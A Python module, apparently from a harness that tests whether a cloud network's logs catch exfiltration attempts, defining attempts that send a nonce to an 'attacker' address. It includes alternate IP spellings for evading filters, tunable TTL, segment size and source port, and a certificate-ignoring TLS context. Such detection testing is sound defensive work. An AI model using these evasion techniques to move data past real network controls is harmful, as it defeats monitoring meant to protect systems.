"""One attempt: its options, its targets, and the marks by which log lines can be attributed to it.

An attempt sends its nonce to the attacker in one way. It uses one of the attacker's addresses alone, so that its log lines can be
distinguished from all others; names that it uses are further marks.
"""

from __future__ import annotations

import contextlib
import ipaddress
import socket
import ssl
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

SPELLINGS = {"mapped": "::ffff:{1}", "decimal": "{0}", "hex": "0x{0:x}", "octal": "0{0:o}"}
"""Other notations of the attacker's address."""


@dataclass
class Attempt:
    """An attempt and its environment; `options` are the technique's (`sni=...`), `marks` are names and addresses in its log lines."""

    id: str
    nonce: str
    address: str
    neighbour: str
    vpc_neighbours: dict[str, str]
    gateway: str
    resolver: str
    region: str
    options: dict[str, str]
    timeout: float = 6.0
    marks: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)
    """The names that it queried at the VPC's resolver."""
    took: list[str] = field(default_factory=list)
    """The credentials that it obtained."""
    ports: list[int] = field(default_factory=list)
    """The local ports of the TCP connections that it tried to open."""
    answered: list[int] = field(default_factory=list)
    """Those ports whose connection was accepted: each must be in a log."""

    def get_option(self, name: str, default: str = "") -> str:
        """Return one of the technique's options; `NONCE` in it is replaced by the nonce."""
        return self.options.get(name, default).replace("NONCE", self.nonce)

    def note_query(self, name: str) -> None:
        """Record a name that is queried at the VPC's resolver."""
        self.asked.append(name.lower())
        self.marks.append(name.lower())

    def parse_number(self, name: str, default: int) -> int:
        """Return an option that is a number."""
        return int(self.options.get(name, default))

    def resolve_target(self) -> str:
        """Return the target address: the attacker's, unless the option `to` has another target or a name to resolve."""
        named = {"neighbour": self.neighbour, "gateway": self.gateway} | {
            f"vpc-{place}": each for place, each in self.vpc_neighbours.items()
        }
        to = self.get_option("to", "attacker")
        if to == "attacker":
            where = self.address
        elif to in SPELLINGS:
            where = SPELLINGS[to].format(int(ipaddress.IPv4Address(self.address)), self.address)
            self.marks.append(self.address)
        elif to.startswith("name:"):
            self.note_query(to[5:])
            where = str(socket.getaddrinfo(to[5:], None, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
        else:
            where = named.get(to, to)
        self.marks.append(where)
        return where

    def connect(self, port: int) -> socket.socket:
        """Return a connection to the target with the source port, segment size and TTL of the options."""
        where = self.resolve_target()
        handle = socket.socket(socket.AF_INET6 if ":" in where else socket.AF_INET, socket.SOCK_STREAM)
        handle.settimeout(self.timeout)
        handle.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if "mss" in self.options:
            handle.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, self.parse_number("mss", 536))
        if "ttl" in self.options:
            handle.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, self.parse_number("ttl", 64))
        if "sport" in self.options:
            handle.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        handle.bind(("", self.parse_number("sport", 0)))
        self.ports.append(int(handle.getsockname()[1]))
        handle.connect((where, port))
        self.answered.append(self.ports[-1])
        return handle


Technique = Callable[[Attempt], None]


def unescape_option(text: str) -> bytes:
    """Return the bytes of an option with its escapes (`\\x00`, `\\r\\n`) replaced."""
    return text.encode().decode("unicode_escape").encode("latin-1")


def make_trusting_context() -> ssl.SSLContext:
    """Return a TLS context that verifies no certificate: the attacker's program trusts the attacker."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


@contextlib.contextmanager
def close_after_delivery(handle: socket.socket) -> Iterator[socket.socket]:
    """Close a connection at the end, after a moment in which sent data can arrive."""
    try:
        yield handle
        with contextlib.suppress(OSError):
            handle.settimeout(1.5)
            handle.recv(4096)
    finally:
        handle.close()
